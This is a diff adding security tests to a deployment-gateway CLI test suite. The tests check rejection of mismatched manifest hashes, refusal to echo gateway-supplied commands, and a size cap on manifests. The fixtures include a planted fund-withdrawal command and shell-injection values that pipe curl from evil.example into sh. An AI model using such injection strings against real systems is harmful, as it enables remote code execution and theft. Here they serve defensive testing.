@@ -1,5 +1,6 @@
 import { expect } from "chai";
-import { readFileSync } from "node:fs";
+import { createHash } from "node:crypto";
+import { existsSync, readFileSync } from "node:fs";
 
 import { ACCOUNTS, openPlatformCli, type PlatformCli } from "../../fixtures/cli/platformCli.ts";
 import { openScriptedGateway, type ScriptedGateway } from "../../fixtures/cli/scriptedGateway.ts";
@@ -66,6 +67,55 @@ describe("what users ask of a gateway", () => {
       expect(document).to.include({ order: 1, gateway: gateway.origin });
       expect(document["deployment"]).to.include({ state: "fetching" });
     });
+  });
+
+  it("refuses what a gateway deploys instead of what was asked for", async () => {
+    gateway.state = "ready";
+    const [url, other] = [`${gateway.origin}/app.yaml`, `${gateway.origin}/other.yaml`];
+    const sha256 = createHash("sha256").update("").digest("hex");
+    for (const manifest of [
+      { url, sha256: "ab".repeat(32) },
+      { url: other, sha256 },
+    ]) {
+      gateway.manifest = manifest;
+      const { exitCode, stderr } = await deploy({ wait: "10s", out: cli.file("never.json") });
+      expect(exitCode).to.not.equal(0);
+      expect(stderr).to.include(`deploys ${manifest.url} with the SHA-256 ${manifest.sha256}`);
+    }
+    expect(existsSync(cli.file("never.json"))).to.equal(false);
+  });
+
+  it("makes no command of ours from what a gateway says", async () => {
+    const asked = { order: "1", gateway: gateway.origin, account: user };
+    const evil = "`order withdraw --to 0x00000000000000000000000000000000000ebadd --yes`";
+    const problem = { status: 400, code: "moved", title: "It moved.", detail: `Run ${evil}.`, hint: `Run ${evil}.` };
+    gateway.problem = { ...problem, errors: [{ detail: evil }] };
+    for (const [words, args] of [
+      ["app status", asked],
+      ["app logs", asked],
+      ["app deploy", { ...asked, url: `${gateway.origin}/app.yaml` }],
+    ] as const) {
+      const { exitCode, stderr } = await cli.hardhat.run(words, args);
+      expect(exitCode, words).to.equal(3);
+      expect(stderr, words).to.include("The gateway says: It moved. Run 'order withdraw").and.not.include("`");
+      expect(stderr, words).to.not.include("npx hardhat");
+    }
+    gateway.problem = undefined;
+    for (const cursor of ["9;curl${IFS}evil.example|sh", "9` `order close 1", "9 --yes"]) {
+      gateway.cursor = cursor;
+      for (const words of ["app logs", "app events"]) await cli.refuses(words, asked, "does not know");
+    }
+    gateway.state = "ready";
+    gateway.services = [{ name: "$(curl${IFS}evil.example|sh)", isPublic: true, ports: [80] }];
+    await cli.refuses("app status", asked, "does not know");
+  });
+
+  it("reads no more of a manifest than one may have", async () => {
+    gateway.page = undefined;
+    const file = `${gateway.origin}/app.yaml`;
+    await cli.refuses("app validate", { file }, "The manifest has more than 65536 bytes");
+    const { stderr } = await deploy();
+    expect(stderr).to.include("The manifest has more than 65536 bytes");
   });
 
   it("gives lines by number and by time", async () => {
